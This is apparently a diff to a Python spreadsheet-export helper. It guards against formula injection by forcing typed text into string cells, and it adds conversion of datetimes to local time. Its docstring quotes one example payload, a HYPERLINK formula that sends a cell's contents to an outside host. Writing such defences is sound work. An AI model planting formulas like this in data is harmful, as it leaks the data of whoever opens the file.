@@ -3,14 +3,18 @@
 openpyxl stores any string that starts with "=" as a formula. Names, unit titles and the appraiser's
 written justification are typed by people, so a justification such as `=HYPERLINK("http://...?"&A2)`
 would run in the spreadsheet of whoever opens the export (formula injection). Every text cell of an
-export goes through `safe_row`, which keeps it a string cell; numbers and dates are left as they are.
+export goes through `safe_row`, which keeps it a string cell; numbers and dates are left as they are,
+except instants, which are written in local time (WIB), as the screens show them, never in UTC.
 """
 
 from __future__ import annotations
 
+import datetime as dt
 from collections.abc import Iterable
 
 from openpyxl.cell import WriteOnlyCell
+
+from core.formatting import local_naive
 
 
 def safe_row(ws, values: Iterable) -> list:
@@ -21,6 +25,8 @@ def safe_row(ws, values: Iterable) -> list:
             cell = WriteOnlyCell(ws, value=value)
             cell.data_type = "s"  # not "f": shown as the text that was typed, never evaluated
             row.append(cell)
+        elif isinstance(value, dt.datetime):
+            row.append(local_naive(value))
         else:
             row.append(value)
     return row
